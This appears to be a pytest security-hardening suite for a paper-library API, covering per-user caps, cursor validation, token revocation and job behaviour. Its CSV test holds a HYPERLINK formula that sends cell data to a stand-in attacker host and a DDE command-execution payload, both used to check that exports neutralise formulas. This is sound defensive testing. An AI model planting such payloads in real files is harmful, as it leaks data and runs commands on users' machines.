"""Closed doors on the API: per-user caps, ids and cursors that cannot reach the wrong key, an export that
cannot run formulas, tokens that can be listed and revoked, imports that always end, jobs that show each
user only their share."""

from __future__ import annotations

import csv
import io
import os
import subprocess
import sys
import time
from collections.abc import Iterator

import httpx
import pytest

from backend.embedded_redis import free_port
from backend.settings import Settings
from backend.stack import api_command, start_child, stop_child, wait_for_http
from backend.store import UserStore

FORMULA_TITLE = '=HYPERLINK("https://evil.example/?"&A1,"click me")'
PAGE = "A paper about caps\n\n" + "An abstract that is long enough for the parser to read it. " * 5


@pytest.fixture(scope="module")
def capped_api(settings, stack_env, tmp_path_factory) -> Iterator[str]:
    """An API process with small per-user caps, on the suite's Redis."""
    port = free_port()
    env = dict(
        stack_env,
        PAPERLENS_PORT=str(port),
        PAPERLENS_MAX_LIBRARY_ITEMS="3",
        PAPERLENS_MAX_DIGESTS="2",
        PAPERLENS_MAX_UPLOAD_BYTES_PER_DAY="2000",
    )
    process = start_child(api_command(Settings(port=port, api_workers=1)), env, tmp_path_factory.mktemp("capped") / "api.log")
    try:
        wait_for_http(f"http://127.0.0.1:{port}/healthz", process=process)
        yield f"http://127.0.0.1:{port}"
    finally:
        stop_child(process)


def test_each_per_user_cap_is_a_4xx_that_names_it(capped_api, token):
    with httpx.Client(base_url=capped_api, headers={"Authorization": f"Bearer {token}"}, timeout=30) as client:
        for n in range(3):
            assert client.post("/v1/library/items", json={"title": f"Paper {n} of three"}).status_code == 201
        full = client.post("/v1/library/items", json={"title": "One too many"})
        assert full.status_code == 403 and "at most 3 items" in full.json()["detail"]

        for n in range(2):
            assert client.post("/v1/digests", json={"url": "https://example.org/caps", "text": PAGE + str(n)}).status_code == 202
        kept = client.post("/v1/digests", json={"url": "https://example.org/caps", "text": PAGE + "x"})
        assert kept.status_code == 429 and "at most 2 per user" in kept.json()["detail"]

        bib = "@article{a, title={An upload that eats the day's budget}, year={2020}}\n" + "%" * 1500
        assert client.post("/v1/library/import", params={"format": "bibtex"}, content=bib).status_code in (200, 403)
        over = client.post("/v1/library/import", params={"format": "bibtex"}, content=bib)
        assert over.status_code == 403 and "at most 2,000 bytes of imports a day" in over.json()["detail"]


def test_csv_export_escapes_formulas_and_reimports_them_as_text(client, other_client):
    titles = [FORMULA_TITLE, "+1 trick", "-minus", "@SUM(A1)", "'=already quoted", "A plain title"]
    for title in titles:
        client.post("/v1/library/items", json={"title": title, "notes": "=cmd|' /C calc'!A0"}).raise_for_status()
    exported = client.get("/v1/library/export", params={"format": "csv"}).text
    rows = list(csv.DictReader(io.StringIO(exported)))
    for row in rows:  # no cell a spreadsheet would run
        assert not any(value.startswith(("=", "+", "-", "@")) for value in row.values()), row
    imported = other_client.post("/v1/library/import", params={"format": "csv"}, content=exported.encode())
    assert imported.status_code == 200, imported.text
    again = {item["title"]: item for item in other_client.get("/v1/library/items", params={"limit": 50}).json()["items"]}
    assert set(again) == set(titles)
    assert again[FORMULA_TITLE]["notes"] == "=cmd|' /C calc'!A0"


def test_cursors_ids_and_export_never_answer_500(client):
    for n in range(3):
        client.post("/v1/library/items", json={"title": f"Cursor paper {n}", "authors": [" "]}).raise_for_status()
    searched = client.get("/v1/library/items", params={"q": "cursor paper", "limit": 1}).json()
    listed = client.get("/v1/library/items", params={"limit": 1}).json()
    for params in (
        {"cursor": searched["next_cursor"]},  # a search's cursor on the plain listing
        {"cursor": listed["next_cursor"], "q": "cursor"},  # and the reverse
        {"cursor": "not base64 at all!"},
        {"cursor": "W10="},  # []
    ):
        answer = client.get("/v1/library/items", params=params)
        assert answer.status_code == 400 and "cursor" in answer.json()["detail"], (params, answer.text)
    for path in ("/v1/library/imports/x:upload", "/v1/library/items/x:y", "/v1/digests/a:b", "/v1/library/duplicates/a:b/merge"):
        method = "POST" if path.endswith("merge") else "GET"
        assert client.request(method, path).status_code == 404, path
    assert client.get("/v1/library/export", params={"format": "bibtex"}).status_code == 200  # a blank author name


def test_tokens_are_listed_and_revoked(api, redis_client, stack_env):
    name = f"revoker-{os.urandom(4).hex()}"
    _, first = UserStore(redis_client).create(name)
    cli = [sys.executable, "-m", "backend.cli", "users"]
    second = subprocess.run([*cli, "token", name], env=stack_env, capture_output=True, text=True, check=True).stdout.strip()
    listed = subprocess.run([*cli, "tokens", name], env=stack_env, capture_output=True, text=True, check=True).stdout
    assert len(listed.splitlines()) == 2 and first not in listed and second not in listed  # ids, never the tokens
    import hashlib

    first_id = hashlib.sha256(first.encode()).hexdigest()[:12]
    revoked = subprocess.run([*cli, "revoke", name, first_id], env=stack_env, capture_output=True, text=True)
    assert revoked.returncode == 0 and "revoked 1" in revoked.stdout
    assert httpx.get(f"{api}/v1/jobs", headers={"Authorization": f"Bearer {first}"}).status_code == 401
    assert httpx.get(f"{api}/v1/jobs", headers={"Authorization": f"Bearer {second}"}).status_code == 200
    too_short = subprocess.run([*cli, "revoke", name, "ab"], env=stack_env, capture_output=True, text=True)
    assert too_short.returncode == 1 and httpx.get(f"{api}/v1/jobs", headers={"Authorization": f"Bearer {second}"}).status_code == 200


def test_a_csv_field_over_the_csv_limit_is_a_rejected_line_not_a_500(client):
    rows = "title,notes\nA readable paper title,fine\n" + f'Broken,"{"x" * 200_000}"\n'
    answer = client.post("/v1/library/import", params={"format": "csv"}, content=rows.encode())
    assert answer.status_code == 200, answer.text
    assert answer.json()["summary"]["imported"] == 1
    assert "unreadable CSV" in answer.json()["rejected"][0]["reason"]


def test_an_import_that_breaks_in_the_worker_ends_failed_with_a_reason(client, workers, redis_client, token):
    owner = UserStore(redis_client).user_for_token(token)
    redis_client.hset(f"pl:lib:{owner}:items", "corrupt", b"{not json")  # what no write path makes
    try:
        rows = "title\n" + "".join(f"Imported paper number {n}\n" for n in range(1_001))
        queued = client.post("/v1/library/import", params={"format": "csv"}, content=rows.encode())
        assert queued.status_code == 202, queued.text
        deadline = time.monotonic() + 60
        while (status := client.get(queued.json()["status_url"]).json())["state"] in ("queued", "running"):
            assert time.monotonic() < deadline, status
            time.sleep(0.2)
        assert status["state"] == "failed" and "nothing was written" in status["error"]
        assert "DecodeError" not in status["error"]  # the cause is in the log, not in the answer
    finally:
        redis_client.hdel(f"pl:lib:{owner}:items", "corrupt")


def test_one_broken_library_does_not_stop_a_job_for_the_others(client, other_client, workers, settings, redis_client, other_token):
    from tests.workers.test_jobs import run_job

    broken = UserStore(redis_client).user_for_token(other_token)
    client.post("/v1/library/items", json={"title": "Sparse mixture of experts", "abstract": "Experts routed per token."})
    redis_client.hset(f"pl:lib:{broken}:items", "corrupt", b"{not json")
    redis_client.incr(f"pl:lib:{broken}:version")
    try:
        run = run_job(settings, redis_client, "enrich")
        assert run.outcome == "error" and run.summary["libraries_failed"] >= 1
        mine = {job["name"]: job for job in client.get("/v1/jobs").json()}["enrich"]["yours"]
        assert mine["outcome"] == "ok" and mine["summary"]["items_enriched"] >= 1
        theirs = {job["name"]: job for job in other_client.get("/v1/jobs").json()}["enrich"]["yours"]
        assert theirs["outcome"] == "error" and theirs["summary"] == {"libraries_failed": 1}
        item = client.get("/v1/library/items").json()["items"][0]
        assert item["keywords"]
    finally:
        redis_client.hdel(f"pl:lib:{broken}:items", "corrupt")
        redis_client.incr(f"pl:lib:{broken}:version")


def test_a_job_lock_outlives_its_ttl_while_the_run_is_alive(redis_client):
    from backend.store import JobStore

    jobs = JobStore(redis_client)
    name = f"renewal-{os.urandom(3).hex()}"
    with jobs.lock(name, ttl_seconds=1, renew=True) as held:
        assert held
        time.sleep(2.5)  # past the TTL: renewed meanwhile
        with jobs.lock(name, ttl_seconds=1) as second:
            assert not second  # the next run is skipped, not run beside this one
    with jobs.lock(name, ttl_seconds=1) as after:
        assert after  # released at the end of the run
